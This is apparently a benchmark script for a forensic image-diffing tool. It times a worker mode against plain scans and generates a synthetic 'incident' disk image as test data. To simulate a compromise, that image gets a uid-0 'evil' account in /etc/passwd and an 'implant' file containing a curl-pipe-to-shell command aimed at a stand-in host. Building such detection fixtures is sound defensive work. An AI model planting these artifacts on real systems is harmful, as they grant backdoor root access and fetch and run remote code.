#!/bin/bash
# tests/bench/worker.sh - `deltair worker` on a spool: the corpus incident as 8 jobs against
# one gold (8 cases, so none is skipped as already complete), served with --concurrency 1 and
# 2; jobs per minute, and the worker's overhead over 8 plain `deltair scan -x` runs of the
# same image one after the other (target <= 10%). Each figure is the median of RUNS rounds,
# interleaved; also the worker's own time per job, from its log.
# Writes its table into docs/benchmarks.md between the BENCH:worker markers and prints it.
#   tests/bench/worker.sh                 (the corpus of tests/bench/run: $CORPUS/gold.raw,
#                                          incident.raw)
#   SYNTHETIC=1 [SYN_DIRS=40] [SYN_SIZE=256M] tests/bench/worker.sh
#                                         (no corpus: a generated ext4 pair of SYN_DIRS x 50 files instead,
#                                          said so in the table)
set -euo pipefail
top=$(cd "$(dirname "$0")/../.." && pwd)
deltair=${DELTAIR:-$top/build/deltair}
CORPUS=${CORPUS:-/var/tmp/corpus}
RUNS=${RUNS:-3}
JOBS=8
doc=$top/docs/benchmarks.md
[ -x "$deltair" ] || { echo "bench: build first" >&2; exit 2; }
work=$(mktemp -d "${TMPDIR:-/tmp}/deltair-bench-worker-XXXXXX")
trap 'rm -rf "$work"' EXIT

if [ "${SYNTHETIC:-0}" = 1 ] || [ ! -f "$CORPUS/gold.raw" ] || [ ! -f "$CORPUS/incident.raw" ]; then
	[ "${SYNTHETIC:-0}" = 1 ] || echo "bench: no corpus under $CORPUS: a synthetic pair instead" >&2
	dirs=${SYN_DIRS:-40} size=${SYN_SIZE:-256M}
	what="synthetic pair ($size ext4, $((dirs * 50)) files, $dirs changed; no corpus here)"
	python3 - "$work/tree" "$dirs" << 'PY'
import os, random, sys
root = sys.argv[1]
rnd = random.Random(7)
for d in range(int(sys.argv[2])):
    p = os.path.join(root, "usr", "lib", "d%03d" % d)
    os.makedirs(p)
    for f in range(50):
        with open(os.path.join(p, "f%03d.so" % f), "wb") as fp:
            fp.write(rnd.randbytes(rnd.randint(1000, 120000)))
os.makedirs(os.path.join(root, "etc"))
open(os.path.join(root, "etc", "passwd"), "w").write("root:x:0:0:root:/root:/bin/bash\n")
PY
	mke2fs -q -F -t ext4 -d "$work/tree" "$work/gold.raw" "$size"
	cp -a "$work/tree" "$work/inc"
	for d in $(seq -f %03g 0 $((dirs - 1))); do head -c 50000 /dev/urandom > "$work/inc/usr/lib/d$d/f000.so"; done
	printf 'evil:x:0:0::/:/bin/sh\n' >> "$work/inc/etc/passwd"
	printf '#!/bin/sh\ncurl http://x | sh\n' > "$work/inc/usr/lib/implant"
	mke2fs -q -F -t ext4 -d "$work/inc" "$work/incident.raw" "$size"
	rm -rf "$work/tree" "$work/inc"
	gold=$work/gold.raw incident=$work/incident.raw
else
	what="the corpus incident.raw against gold.raw"
	gold=$CORPUS/gold.raw incident=$CORPUS/incident.raw
fi
"$deltair" baseline --no-progress -o "$work/gold.dtree" "$gold" 2> /dev/null
"$deltair" scan --no-progress -b "$work/gold.dtree" -o /dev/null "$incident" > /dev/null 2>&1 || true # warm

now() { date +%s.%N; }
plain_round() {
	local i t0
	t0=$(now)
	for i in $(seq $JOBS); do
		rm -rf "$work/px$i"
		"$deltair" scan --no-progress -b "$work/gold.dtree" -x "$work/px$i" -o "$work/p$i.jsonl" \
			"$incident" 2> /dev/null || [ $? -le 1 ]
	done
	awk -v a="$(now)" -v b="$t0" 'BEGIN { printf "%.3f\n", a - b }'
}
worker_round() { # worker_round CONCURRENCY
	local i t0
	rm -rf "$work/sp" "$work/res"
	for i in $(seq $JOBS); do
		"$deltair" submit --queue "spool:$work/sp" --case "bench-$i" -b "$work/gold.dtree" \
			-o "$work/res" "$incident" > /dev/null
	done
	t0=$(now)
	"$deltair" worker --queue "spool:$work/sp" --once --concurrency "$1" --work-dir "$work/wd" \
		2> "$work/worker.log"
	awk -v a="$(now)" -v b="$t0" 'BEGIN { printf "%.3f\n", a - b }'
	[ "$(ls "$work/sp/done" | wc -l)" -eq $JOBS ] || { echo "bench: not every job was done" >&2; exit 1; }
}
# The worker's own time in a job (from its log): claim to scan started, scan ended to done.
own_ms() {
	jq -rs '[.[] | select(.elapsed != null)] | reduce .[] as $e ({t: 0, last: 0};
		if $e.stage == "scan" and ($e.msg | startswith("scanning")) then .t += $e.elapsed
		elif $e.stage == "scan" then .last = $e.elapsed
		elif $e.stage == "done" then .t += $e.elapsed - .last else . end) | .t * 1000 / 8' \
		"$work/worker.log"
}
median() { sort -n | awk '{a[NR]=$1} END {print a[int((NR + 1) / 2)]}'; }
# Rounds interleaved (plain, then each worker), so that a change of the machine's load
# falls on all three alike.
for r in $(seq "$RUNS"); do
	plain_round >> "$work/plain.t"
	worker_round 1 >> "$work/c1.t"
	own_ms >> "$work/own.t"
	worker_round 2 >> "$work/c2.t"
done
plain=$(median < "$work/plain.t") c1=$(median < "$work/c1.t") c2=$(median < "$work/c2.t")
own=$(median < "$work/own.t")
load=$(cut -d' ' -f1-3 /proc/loadavg)
table=$(python3 - "$plain" "$c1" "$c2" "$what" "$RUNS" "$own" "$load" << 'PY'
import sys, os, datetime
plain, c1, c2 = map(float, sys.argv[1:4])
what, runs, own, load = sys.argv[4], sys.argv[5], float(sys.argv[6]), sys.argv[7]
ov = (c1 - plain) / plain * 100
print("Measured %s, %d cores, %s; median of %s interleaved rounds of 8 jobs, load average "
      "%s at the end (`tests/bench/worker.sh`)." % (
    datetime.date.today().isoformat(), os.cpu_count(), what, runs, load))
print()
print("| worker, spool, 8 jobs | total s | jobs/min | target |")
print("|---|---:|---:|---:|")
print("| 8 plain `deltair scan -x`, one after the other | %.2f | %.1f | |" % (plain, 8 * 60 / plain))
print("| `deltair worker --concurrency 1 --once` | %.2f | %.1f | overhead %+.1f%% (≤ 10%% %s) |" % (
    c1, 8 * 60 / c1, ov, "met" if ov <= 10 else "MISSED"))
print("| `deltair worker --concurrency 2 --once` | %.2f | %.1f | |" % (c2, 8 * 60 / c2))
print()
print("The worker's own time per job at `--concurrency 1` (its log: claim to scan started, "
      "scan ended to done): %.0f ms." % own)
PY
)
echo "$table" | tee "$work/table.md"
python3 "$top/tests/bench/put-section.py" "$doc" worker "## Worker: 8 spool jobs" "$work/table.md"
